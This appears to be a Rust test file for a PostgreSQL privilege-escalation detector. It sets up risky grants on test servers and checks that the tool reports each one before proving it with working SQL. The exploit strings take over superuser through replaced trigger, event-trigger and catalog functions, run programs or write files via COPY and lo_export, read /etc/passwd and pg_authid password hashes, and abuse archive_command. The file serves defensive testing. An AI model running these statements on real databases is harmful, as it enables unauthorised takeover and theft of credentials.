//! Every way to superuser that is told, walked on real servers: before it is set up nothing is told; then it is told in these
//! words; then the role does it, and has what was told.

use crate::privileges::look;
use anyhow::{Context, Result};
use pgattest_access::escalation::Escalation;
use pgattest_testkit::{Cluster, SUPERUSER, available_majors};
use rstest::rstest;
use std::ops::RangeInclusive;

/// `{me}` is the login role, `{file}` a file that only the server's account may write.
struct Scenario {
    name: &'static str,
    majors: RangeInclusive<u32>,
    /// By the administrator who does not know better.
    setup: &'static str,
    told: &'static str,
    /// By the role, one statement at a time.
    exploit: &'static [&'static str],
    /// What a superuser does later, knowing nothing.
    superuser: &'static str,
    proof: Proof,
    undo: &'static str,
}

enum Proof {
    Superuser,
    File,
    /// The last statement of the exploit is allowed: it reads or sets what nobody else may.
    Done,
}

const ALL: RangeInclusive<u32> = 13..=18;
const SINCE_15: RangeInclusive<u32> = 15..=18;
const SINCE_16: RangeInclusive<u32> = 16..=18;

const NOTHING: Scenario = Scenario {
    name: "",
    majors: ALL,
    setup: "",
    told: "",
    exploit: &[],
    superuser: "",
    proof: Proof::Superuser,
    undo: "",
};

const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "set_role",
        setup: "ALTER ROLE {me} NOINHERIT; CREATE ROLE boss SUPERUSER; GRANT boss TO {me}",
        told: "{me} -> boss (SET ROLE): is a superuser",
        exploit: &["SET ROLE boss", "ALTER ROLE {me} SUPERUSER"],
        undo: "DROP ROLE boss",
        ..NOTHING
    },
    Scenario {
        name: "inherits_bootstrap",
        majors: SINCE_16,
        setup: "GRANT postgres TO {me} WITH INHERIT TRUE, SET FALSE",
        told: "{me} -> postgres (inherits): its privileges are inherited: any built-in function can be replaced by one that runs as this superuser",
        exploit: &[
            "CREATE OR REPLACE FUNCTION information_schema._pg_char_max_length(typid oid, typmod int4) RETURNS integer
             LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN EXECUTE 'ALTER ROLE {me} SUPERUSER'; RETURN 1; END $$",
            "SELECT information_schema._pg_char_max_length(1, 1)",
        ],
        ..NOTHING
    },
    Scenario {
        name: "inherits_other",
        setup: "CREATE ROLE other SUPERUSER; GRANT other TO {me}; CREATE TABLE others (a int); ALTER TABLE others OWNER TO other;
            INSERT INTO others VALUES (1); GRANT CREATE ON SCHEMA public TO {me}",
        told: "{me} -> other (inherits): its privileges are inherited: public.others in postgres can be made to run code as \
               this superuser, when it may create objects in the schema, or a superuser uses the object",
        exploit: &[
            "CREATE OR REPLACE FUNCTION public.rise() RETURNS int LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE {me} SUPERUSER'; RETURN 1; END $$",
            "CREATE OR REPLACE FUNCTION public.hide(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN RETURN public.rise(); END $$",
            "CREATE INDEX ON others (public.hide(a))",
        ],
        undo: "DROP TABLE others; DROP ROLE other",
        ..NOTHING
    },
    Scenario {
        name: "create_role",
        majors: 13..=15,
        setup: "ALTER ROLE {me} CREATEROLE",
        told: "{me} -> pg_execute_server_program (grants itself, CREATEROLE): COPY .. PROGRAM runs any program on the server",
        exploit: &[
            "GRANT pg_execute_server_program TO {me}",
            "COPY (SELECT 1) TO PROGRAM 'cat > {file}'",
        ],
        proof: Proof::File,
        ..NOTHING
    },
    Scenario {
        name: "admin_option",
        majors: SINCE_16,
        setup: "GRANT pg_write_server_files TO {me} WITH ADMIN TRUE, INHERIT FALSE, SET FALSE",
        told: "{me} -> pg_write_server_files (grants itself, ADMIN OPTION): COPY .. TO writes any file on the server",
        exploit: &["GRANT pg_write_server_files TO {me}", "COPY (SELECT 1) TO '{file}'"],
        proof: Proof::File,
        ..NOTHING
    },
    Scenario {
        name: "server_files",
        setup: "GRANT pg_read_server_files TO {me}",
        told: "{me} -> pg_read_server_files (inherits): COPY .. FROM reads any file on the server",
        exploit: &[
            "CREATE TEMP TABLE line (text text)",
            "COPY line FROM '/etc/passwd' (DELIMITER E'\\x01')",
        ],
        proof: Proof::Done,
        ..NOTHING
    },
    Scenario {
        name: "read_all_data",
        majors: 14..=18,
        setup: "GRANT pg_read_all_data TO {me}",
        told: "{me} -> pg_read_all_data (inherits): reads every table, pg_authid among them",
        exploit: &["SELECT rolpassword FROM pg_authid"],
        proof: Proof::Done,
        ..NOTHING
    },
    Scenario {
        name: "lo_export",
        setup: "GRANT EXECUTE ON FUNCTION lo_export(oid, text) TO {me}",
        told: "{me}: EXECUTE on pg_catalog.lo_export(oid, text) in postgres",
        exploit: &[
            "SELECT lo_from_bytea(0, 'x')",
            "SELECT lo_export(max(oid), '{file}') FROM pg_largeobject_metadata",
        ],
        proof: Proof::File,
        ..NOTHING
    },
    Scenario {
        name: "lo_import",
        setup: "GRANT EXECUTE ON FUNCTION lo_import(text) TO {me}",
        told: "{me}: EXECUTE on pg_catalog.lo_import(text) in postgres",
        exploit: &["SELECT lo_import('global/1260')"],
        proof: Proof::Done,
        ..NOTHING
    },
    Scenario {
        name: "read_file",
        setup: "GRANT EXECUTE ON FUNCTION pg_read_binary_file(text) TO {me}",
        told: "{me}: EXECUTE on pg_catalog.pg_read_binary_file(text) in postgres",
        exploit: &["SELECT pg_read_binary_file('global/1260')"],
        proof: Proof::Done,
        ..NOTHING
    },
    Scenario {
        name: "catalog_column",
        setup: "GRANT UPDATE (rolsuper) ON pg_authid TO {me}",
        told: "{me}: writes columns of pg_catalog.pg_authid.rolsuper in postgres, or may grant itself that",
        exploit: &["UPDATE pg_authid SET rolsuper = true"],
        undo: "UPDATE pg_authid SET rolsuper = (rolname = 'postgres')",
        ..NOTHING
    },
    Scenario {
        name: "catalog_option",
        setup: "GRANT UPDATE ON pg_authid TO {me} WITH GRANT OPTION",
        told: "{me}: writes columns of pg_catalog.pg_authid in postgres, or may grant itself that",
        exploit: &["GRANT UPDATE (rolsuper) ON pg_authid TO {me}", "UPDATE pg_authid SET rolsuper = true"],
        undo: "UPDATE pg_authid SET rolsuper = (rolname = 'postgres')",
        ..NOTHING
    },
    Scenario {
        name: "catalog_schema",
        setup: "GRANT CREATE ON SCHEMA pg_catalog TO {me}",
        told: "{me}: CREATE on schema pg_catalog in postgres, which is searched first for every name, \
               when a superuser runs statements in the database",
        exploit: &[
            "CREATE FUNCTION pg_catalog.lower(varchar) RETURNS text LANGUAGE plpgsql AS
             $$ BEGIN EXECUTE 'ALTER ROLE {me} SUPERUSER'; RETURN $1; END $$",
        ],
        superuser: "SELECT lower('A'::varchar)",
        undo: "DROP FUNCTION pg_catalog.lower(varchar)",
        ..NOTHING
    },
    Scenario {
        name: "trigger_function",
        setup: "CREATE SCHEMA theirs AUTHORIZATION {me};
            CREATE FUNCTION theirs.stamp() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN new; END';
            ALTER FUNCTION theirs.stamp() OWNER TO {me}; CREATE TABLE ours (a int);
            CREATE TRIGGER stamp BEFORE INSERT ON ours FOR EACH ROW EXECUTE FUNCTION theirs.stamp()",
        told: "{me}: may replace function theirs.stamp() in postgres, which trigger stamp on public.ours calls, \
               when a superuser writes to the table",
        exploit: &[
            "CREATE OR REPLACE FUNCTION theirs.stamp() RETURNS trigger LANGUAGE plpgsql AS
             $$ BEGIN EXECUTE 'ALTER ROLE {me} SUPERUSER'; RETURN new; END $$",
        ],
        superuser: "INSERT INTO ours VALUES (1)",
        undo: "DROP TABLE ours",
        ..NOTHING
    },
    Scenario {
        name: "event_trigger",
        setup: "CREATE SCHEMA watch AUTHORIZATION {me};
            CREATE FUNCTION watch.ddl() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';
            ALTER FUNCTION watch.ddl() OWNER TO {me};
            CREATE EVENT TRIGGER watch ON ddl_command_start WHEN TAG IN ('CREATE VIEW') EXECUTE FUNCTION watch.ddl()",
        told: "{me}: may replace function watch.ddl() in postgres, which event trigger watch calls, \
               when a superuser runs the commands it fires on",
        exploit: &[
            "CREATE OR REPLACE FUNCTION watch.ddl() RETURNS event_trigger LANGUAGE plpgsql AS
             $$ BEGIN EXECUTE 'ALTER ROLE {me} SUPERUSER'; END $$",
        ],
        superuser: "CREATE VIEW harmless AS SELECT 1",
        undo: "DROP VIEW harmless; DROP EVENT TRIGGER watch",
        ..NOTHING
    },
    Scenario {
        name: "replication",
        setup: "ALTER ROLE {me} REPLICATION",
        told: "{me}: has REPLICATION: a replication connection copies the whole cluster, \
               when pg_hba.conf lets it make replication connections",
        exploit: &["SELECT pg_create_physical_replication_slot('copy')"],
        proof: Proof::Done,
        ..NOTHING
    },
    Scenario {
        name: "parameter",
        majors: SINCE_15,
        setup: "GRANT SET ON PARAMETER session_preload_libraries TO {me}",
        told: "{me}: SET on parameter session_preload_libraries, when a library of the attacker's is on the server",
        exploit: &["ALTER ROLE {me} SET session_preload_libraries = '/tmp/any.so'"],
        proof: Proof::Done,
        ..NOTHING
    },
    Scenario {
        name: "alter_system",
        majors: SINCE_15,
        setup: "GRANT ALTER SYSTEM ON PARAMETER archive_command TO {me}",
        told: "{me}: ALTER SYSTEM on parameter archive_command, when the configuration is loaded again",
        exploit: &["ALTER SYSTEM SET archive_command = 'touch /tmp/anything'"],
        proof: Proof::Done,
        undo: "ALTER SYSTEM RESET archive_command",
        ..NOTHING
    },
    // Leaves a way for everyone behind, so it is the last.
    Scenario {
        name: "language",
        setup: "UPDATE pg_language SET lanpltrusted = true WHERE lanname = 'internal'",
        told: "{me}: USAGE on language internal in postgres, which is not safe and is marked as trusted",
        exploit: &[
            "CREATE FUNCTION pg_temp.write(oid, text) RETURNS int LANGUAGE internal AS 'be_lo_export'",
            "SELECT lo_from_bytea(0, 'x')",
            "SELECT pg_temp.write(max(oid), '{file}') FROM pg_largeobject_metadata",
        ],
        proof: Proof::File,
        ..NOTHING
    },
];

#[rstest]
fn what_is_told_can_be_done_and_nothing_is_told_of_who_can_do_nothing(
    #[values(13, 14, 15, 16, 17, 18)] major: u32,
) -> Result<()> {
    if !available_majors().contains(&major) {
        return Ok(());
    }
    let runtime = tokio::runtime::Runtime::new()?;
    let cluster = Cluster::builder(major).start_blocking()?;
    let scenarios: Vec<_> = SCENARIOS
        .iter()
        .filter(|one| one.majors.contains(&major))
        .collect();
    for scenario in &scenarios {
        let sql = format!("CREATE ROLE {} LOGIN", scenario.name);
        cluster.execute_blocking("postgres", &sql)?;
    }
    let before = understand(&cluster)?;
    let logins: Vec<_> = before.logins().map(|(role, _)| role.name.clone()).collect();
    assert_eq!(logins, [SUPERUSER], "before anything is set up");
    for scenario in scenarios {
        walk(&cluster, &runtime, scenario).with_context(|| scenario.name)?;
    }
    Ok(())
}

fn walk(cluster: &Cluster, runtime: &tokio::runtime::Runtime, scenario: &Scenario) -> Result<()> {
    let me = scenario.name;
    let file = cluster.data_dir().join(format!("{me}.proof"));
    let fill = |sql: &str| {
        sql.replace("{me}", me)
            .replace("{file}", &file.display().to_string())
    };
    let tried = runtime.block_on(attempt(cluster, scenario, &fill));
    assert!(tried.is_err(), "it works without being set up");

    cluster.execute_blocking("postgres", &fill(scenario.setup))?;
    let ways = told(cluster, me)?;
    assert!(ways.contains(&fill(scenario.told)), "told: {ways:#?}");
    runtime.block_on(attempt(cluster, scenario, &fill))?;
    if !scenario.superuser.is_empty() {
        cluster.execute_blocking("postgres", scenario.superuser)?;
    }
    match scenario.proof {
        Proof::Superuser => {
            let sql = format!("SELECT rolsuper FROM pg_authid WHERE rolname = '{me}'");
            let rows = cluster.query_text_blocking("postgres", &sql)?;
            assert_eq!(rows, [[Some("t".to_owned())]]);
        }
        Proof::File => assert!(file.exists(), "{} was not written", file.display()),
        Proof::Done => {}
    }
    for statement in scenario
        .undo
        .split("; ")
        .filter(|statement| !statement.is_empty())
    {
        cluster.execute_blocking("postgres", statement)?;
    }
    cluster.execute_blocking("postgres", &format!("ALTER ROLE {me} NOSUPERUSER"))
}

async fn attempt(
    cluster: &Cluster,
    scenario: &Scenario,
    fill: &impl Fn(&str) -> String,
) -> Result<()> {
    let client = cluster.client_as(scenario.name, "postgres").await?;
    for statement in scenario.exploit {
        client.batch_execute(&fill(statement)).await?;
    }
    Ok(())
}

/// Everything that is told of one role.
fn told(cluster: &Cluster, role: &str) -> Result<Vec<String>> {
    let escalation = understand(cluster)?;
    let oid = escalation.graph().named(role).context("no such role")?.oid;
    Ok(escalation
        .ways(oid)
        .iter()
        .map(ToString::to_string)
        .collect())
}

fn understand(cluster: &Cluster) -> Result<Escalation> {
    let facts = look(cluster)?;
    let escalation = Escalation::new(&facts).map_err(|missing| anyhow::anyhow!(missing.why))?;
    assert!(
        escalation.not_seen().is_empty(),
        "{:?}",
        escalation.not_seen()
    );
    Ok(escalation)
}

/// Granting a whole catalog table looks dangerous and is refused; CREATEROLE from 16 grants what it made itself.
#[test]
fn what_the_server_refuses_is_not_told() -> Result<()> {
    for major in available_majors() {
        let cluster = Cluster::builder(major).start_blocking()?;
        cluster.execute_blocking(
            "postgres",
            "CREATE ROLE app LOGIN; GRANT UPDATE, INSERT, SELECT ON pg_authid TO app;
             GRANT EXECUTE ON FUNCTION pg_ls_dir(text) TO app; GRANT pg_monitor TO app;
             CREATE SCHEMA shared; GRANT USAGE ON SCHEMA shared TO app;
             CREATE FUNCTION shared.f() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN new; END';
             ALTER FUNCTION shared.f() OWNER TO app; CREATE TABLE t (a int);
             CREATE TRIGGER f BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION shared.f()",
        )?;
        if major >= 16 {
            cluster.execute_blocking("postgres", "ALTER ROLE app CREATEROLE")?;
        }
        assert_eq!(told(&cluster, "app")?, [""; 0], "PostgreSQL {major}");
        for (sql, error) in [
            (
                "UPDATE pg_authid SET rolsuper = true",
                "permission denied for table pg_authid",
            ),
            (
                "CREATE OR REPLACE FUNCTION shared.f() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN old; END'",
                "permission denied for schema shared",
            ),
            (
                "GRANT pg_execute_server_program TO app",
                if major >= 16 {
                    "permission denied to grant role"
                } else {
                    "must have admin option"
                },
            ),
        ] {
            let sql = format!("SET SESSION AUTHORIZATION app; {sql}");
            let refused = cluster.execute_blocking("postgres", &sql).unwrap_err();
            assert!(
                format!("{refused:#}").contains(error),
                "PostgreSQL {major}: {refused:#}"
            );
        }
        let superuser = told(&cluster, SUPERUSER)?;
        assert_eq!(superuser, ["postgres: is a superuser"]);
    }
    Ok(())
}
